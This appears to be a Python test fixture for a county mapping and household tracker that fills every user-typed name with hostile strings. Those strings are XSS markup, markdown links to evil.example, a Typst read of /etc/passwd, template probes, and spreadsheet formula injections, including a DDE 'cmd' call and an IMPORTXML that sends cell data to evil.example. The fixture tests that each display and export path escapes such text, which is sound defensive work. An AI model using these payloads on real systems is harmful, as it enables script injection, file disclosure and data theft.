"""Texts that mean harm, shared by the tests of every place where a text is shown or written."""

from pathlib import Path
from typing import Any

from tests.drawn import DAY
from tests.drawn_county import county_layers
from tests.policies_path import POLICY
from tracker.office import Office, create

MARKUP = (
    "<img src=x onerror=window.__x=1>",
    "<svg/onload=window.__x=1>",
    "</script><script>window.__x=1</script>",
    "</td></tr></table><iframe src=javascript:window.__x=1>",
    "<!--<script>",
    "${window.__x=1}",
    "`);window.__x=1;(`",
    "\\`${window.__x=1}",
    '"]});window.__x=1;//',
    "' onmouseover='window.__x=1",
    '" autofocus onfocus="window.__x=1',
    "javascript:window.__x=1",
    "data:text/html,<script>window.__x=1</script>",
    "\u2028window.__x=1",
    "&lt;b&gt;&#60;b&#62;",
    "{{7*7}}{% raw %}",
    "{{{7*7}}}{# {{ cycler.__init__.__globals__ }}",
    "]]>",
)
MARKDOWN = (
    "[点我](https://evil.example/a)",
    "![图](https://evil.example/p.png)",
    "<https://evil.example/b>",
    "$\\alpha$ $$x$$",
    ":red[红] :material/delete: :smile:",
    "*粗* _斜_ ~~删~~ `码`",
    "# 题",
    "| a | b |",
)
TYPST = (
    '#read("/etc/passwd")',
    '#import "x": *',
    "#panic()",
    "$x$ *a* _b_",
    "<label> @ref",
    "#eval(sys.version)",
    '#image("x.svg")',
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example","y")',
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
)
NAMES = (*MARKUP, *MARKDOWN, *TYPST)
PERSON = {"head_name": "卡那利", "id_number": "440803196512250018", "phone": "13912345678", "address": "卡那利巷9号"}
FACILITIES = ("clinic", "public_toilet", "cultural_venue", "garbage_point", "school", "bus_stop")


def bad(position: int) -> str:
    """Give a name that holds every payload of one kind; a different kind for each position."""
    return f"村{position}" + " ".join((MARKUP, MARKDOWN, TYPST)[position % 3])


def renamed(layers: dict[str, Any]) -> dict[str, Any]:
    """Write a payload into every text of the drawn county that a person may type."""
    towns = "甲镇" + MARKUP[0] + MARKDOWN[0]
    layers["towns"]["name"] = towns
    for name, frame in layers.items():
        if "town" in frame:
            frame["town"] = towns
        if name in {"villages", "natural_villages", "roads", "facilities", "bridges"} and "name" in frame:
            frame["name"] = [bad(at) for at in range(len(frame))]
    layers["roads"]["route_code"] = None
    return layers


def hostile_office(folder: Path, *, policy: Path = POLICY) -> Office:
    """Make an office in which every name is a payload and every household has a person of its own."""
    layers = renamed(county_layers())
    homes = layers["households"].drop(columns="head_name")
    homes = homes.assign(**PERSON, household_id=[f"HUKOU{at}" for at in range(len(homes))])
    layers["households"] = homes
    folder.mkdir(parents=True, exist_ok=True)
    office = create(folder / "office", policy=policy, name="县" + MARKUP[0] + MARKDOWN[0])
    for name, frame in layers.items():
        if name == "claims":
            continue
        file = folder / f"{name}.geojson"
        frame.to_crs(4490).drop(columns=["seat_x", "seat_y"], errors="ignore").to_file(file, driver="GeoJSON")
        office.add_layer(name, file, as_of=DAY, by="李工")
    return office
